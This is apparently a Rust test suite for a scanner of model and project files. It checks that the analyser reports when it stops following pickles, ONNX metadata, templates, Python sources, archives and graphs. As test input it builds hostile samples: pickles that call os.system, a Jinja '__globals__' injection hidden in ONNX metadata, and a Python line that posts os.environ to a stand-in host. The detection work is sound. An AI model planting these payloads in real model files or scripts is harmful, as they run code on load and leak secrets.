//! What lies beyond a bound is said: a report without a limit has seen all there is.

use std::io::Write as _;

use mantlet_formats::graph::{Graph, Kind};
use mantlet_formats::{Bounds, jinja, onnx, pickle, python, requirements, tensorflow, torch, xml, zip};
use mantlet_vocab::MemorySource;

/// A protobuf field that holds bytes.
fn field(number: u8, bytes: &[u8]) -> Vec<u8> {
    let (mut out, mut len) = (vec![number << 3 | 2], bytes.len());
    while len > 0x7f {
        out.push(len as u8 | 0x80);
        len >>= 7;
    }
    out.push(len as u8);
    [out, bytes.to_vec()].concat()
}

fn python_limits(text: &str) -> String {
    python::analyse(text, python::Role::Script).limits.join("; ")
}

#[test]
fn graphs_with_more_outputs_than_are_followed_say_so() {
    let mut graph = Graph::default();
    for index in 0..1_024 {
        let node = graph.add(Kind::Pass, "Identity", "", vec![], index);
        graph.output(node);
        graph.output(node);
    }
    assert!(!graph.cut);
    let node = graph.add(Kind::Pass, "Identity", "", vec![], 0);
    graph.output(node);
    assert!(graph.cut);
}

#[test]
fn onnx_texts_are_kept_when_they_are_more_than_words_wherever_they_stand() {
    let property = |text: &str| field(14, &[field(1, b"note"), field(2, text.as_bytes())].concat());
    let model = |properties: &[u8]| {
        let mut bytes = vec![8, 10];
        bytes.extend_from_slice(properties);
        bytes.extend(field(7, &[]));
        onnx::analyse(&MemorySource::new(&bytes), &Bounds::default())
    };
    let words = property("torch.nn.Linear").repeat(3_000);
    let late = property(&format!("{}{{{{ lipsum.__globals__ }}}}", "a".repeat(20_000)));
    let facts = model(&[words.clone(), late.clone(), words.clone()].concat());
    assert_eq!((facts.texts.len(), &*facts.limits), (257, &[][..]));
    assert_eq!(facts.texts[256].2, 20_024);
    let facts = model(&[words, late.repeat(300)].concat());
    assert_eq!(facts.limits, ["more of its texts are templates or hide something than are told"]);
}

#[test]
fn pickles_say_what_they_do_not_keep() {
    let limits =
        |bytes: &[u8]| pickle::analyse(&MemorySource::new(bytes), &Bounds::default()).limits.join("; ");
    let imports: String = (0..20_001).map(|index| format!("cmodule\nname{index}\n0")).collect();
    assert!(limits(format!("{imports}N.").as_bytes()).contains("more imports than are kept"));
    let register: String =
        (1..4_098).map(|code| format!("ccopyreg\nadd_extension\n(S'a'\nS'b'\nI{code}\ntR0")).collect();
    assert!(limits(format!("{register}N.").as_bytes()).contains("more extensions than are followed"));
    let fold = format!("cfunctools\nreduce\n(coperator\nadd\n({}ltR.", "I1\n".repeat(70));
    assert!(limits(fold.as_bytes()).contains("folded over more values"));
    let tuple = format!("cfunctools\nreduce\n(coperator\nadd\n({}ttR.", "I1\n".repeat(70));
    assert!(limits(tuple.as_bytes()).contains("folded over more values"));
    let few = format!("cfunctools\nreduce\n(coperator\nadd\n({}ltR.", "I1\n".repeat(8));
    assert_eq!(limits(few.as_bytes()), "");
}

#[test]
fn long_texts_in_a_pickle_cost_no_more_than_they_are_long_and_hide_nothing() {
    let calls = |middle: &[u8]| {
        let bytes = [b"\x80\x02", middle, b"0cos\nsystem\n(S'id'\ntR."].concat();
        let begun = std::time::Instant::now();
        let facts = pickle::analyse(&MemorySource::new(&bytes), &Bounds::default());
        // Below a second; each of these took minutes or hundreds of MiB.
        assert!(begun.elapsed().as_secs() < 20, "{:?}", begun.elapsed());
        assert!(facts.calls.iter().any(|call| call.callee.ends_with(".system")), "{:?}", facts.limits);
        facts
    };
    let again = |start: &[u8], step: &[u8], times: usize| [start, &step.repeat(times)].concat();
    // A text that grows by a letter with each call, and a name that grows by a part.
    calls(&again(b"coperator\nconcat\nq\x00X\x01\0\0\0a", b"q\x01h\x00h\x01X\x01\0\0\0a\x86R", 40_000));
    calls(&again(b"cbuiltins\ngetattr\nq\x00cos\nsystem\n", b"q\x01h\x00h\x01X\x01\0\0\0a\x86R", 20_000));
    // A long text that short references use again and again.
    let long = |len: u32, text: &[u8]| {
        [&b"X"[..], &len.to_le_bytes(), &text.repeat(len as usize / text.len())].concat()
    };
    let start = [b"coperator\nconcat\nq\x00", &long(500_000, b"a")[..], b"q\x010"].concat();
    calls(&again(&start, b"h\x00h\x01h\x01\x86R0", 20_000));
    let start = [b"cbuiltins\ngetattr\nq\x00", &long(1_000, b"a.")[..], b"q\x010cx\ny\nq\x020"].concat();
    calls(&again(&start, b"h\x00h\x02h\x01\x86R0", 5_000));
    let start = [&b"N"[..], &long(4_000, b"a."), b"q\x000"].concat();
    calls(&again(&start, b"h\x00h\x00\x930", 10_000));
    // As protocol 2 writes bytes, many of them: data, of which nothing is kept for long.
    let start = [b"c_codecs\nencode\nq\x00", &long(900_000, b"\x01")[..], b"q\x010"].concat();
    let data = calls(&again(&start, b"h\x00h\x01X\x06\0\0\0latin1\x86R0", 400));
    assert_eq!(data.limits, [""; 0]);
    assert_eq!(data.calls.len(), 1, "{:?}", data.calls);
}

#[test]
fn sources_say_what_they_do_not_follow() {
    let names: String = (0..20_001).map(|index| format!("n{index} = 1\n")).collect();
    assert!(python_limits(&names).contains("more names"));
    let stars: String = (0..65).map(|index| format!("from m{index} import *\n")).collect();
    assert!(python_limits(&stars).contains("imported whole"));
    let mut nested = "import os".to_owned();
    for _ in 0..6 {
        nested = format!("exec({nested:?})");
    }
    assert!(python_limits(&nested).contains("nested deeper"));
    let shell = "!make\n".repeat(1_001);
    assert!(python_limits(&shell).contains("commands are listed"));
    // What is given beyond the bound of arguments still counts.
    let late =
        format!("import os, requests\nrequests.post('https://x.example', {}os.environ)\n", "1, ".repeat(90));
    let script = python::analyse(&late, python::Role::Script);
    assert!(script.calls.iter().any(|call| call.origin().secret), "{:?}", script.calls);
}

#[test]
fn harmless_attributes_of_a_template_leave_room_for_those_that_reach_code() {
    let text = format!("{}{{{{ lipsum.__globals__ }}}}", "{{ x.__doc__ }}".repeat(400));
    let accesses = jinja::analyse(&text).accesses;
    assert_eq!(accesses.first().map(|access| access.reach), Some(jinja::Reach::Code));
}

#[test]
fn archives_entities_operators_and_tables_beyond_a_bound_are_limits() {
    let name = "a/".repeat(600);
    let mut archive = Vec::new();
    // One stored member: local header, directory, end.
    let fixed = |signature: &[u8], rest: usize| [signature, &vec![0; rest]].concat();
    let mut local = fixed(b"PK\x03\x04", 26);
    local[26..28].copy_from_slice(&(name.len() as u16).to_le_bytes());
    archive.write_all(&local).unwrap();
    archive.write_all(name.as_bytes()).unwrap();
    let start = archive.len();
    let mut listed = fixed(b"PK\x01\x02", 42);
    listed[28..30].copy_from_slice(&(name.len() as u16).to_le_bytes());
    archive.write_all(&listed).unwrap();
    archive.write_all(name.as_bytes()).unwrap();
    let mut end = fixed(b"PK\x05\x06", 18);
    end[8..12].copy_from_slice(&[1, 0, 1, 0]);
    end[12..16].copy_from_slice(&((archive.len() - start) as u32).to_le_bytes());
    end[16..20].copy_from_slice(&(start as u32).to_le_bytes());
    archive.write_all(&end).unwrap();
    let facts = zip::analyse(&MemorySource::new(&archive), &Bounds::default());
    assert_eq!(facts.limits, ["a member has a name of more than 1024 bytes: what it ends with is not seen"]);

    let entities: String = (0..4_097).map(|index| format!("<!ENTITY e{index} 'x'>")).collect();
    assert!(xml::analyse(&format!("<!DOCTYPE a [{entities}]><a/>")).unfollowed);
    assert!(!xml::analyse("<!DOCTYPE a [<!ENTITY e 'x'>]><a/>").unfollowed);

    let code: String = (0..257).map(|index| format!("ops.mine.f{index}(x)\n")).collect();
    assert!(!torch::operators(code.as_bytes(), "m").1);
    assert!(torch::operators(code.replace("f256", "f1").as_bytes(), "m").1);

    let node = |attributes: usize| {
        let attribute = field(5, &[field(1, b"T"), field(2, &[])].concat()).repeat(attributes);
        field(1, &[field(1, b"p"), field(2, b"PrintV2"), attribute].concat())
    };
    let graph = |attributes: usize| {
        let source = [node(attributes), node(1)].concat();
        tensorflow::analyse(&MemorySource::new(&source), tensorflow::File::Graph, &Bounds::default())
    };
    assert_eq!(graph(256).limits, [""; 0]);
    assert_eq!(graph(257).limits, ["only the first 256 attributes of a node are read"]);

    let deep = format!("[{}]\nx = 1\n", vec!["a"; 20].join("."));
    let facts = requirements::analyse(&deep, requirements::Kind::Project);
    assert_eq!(facts.limits, ["tables of the project file are followed 16 deep"]);
}
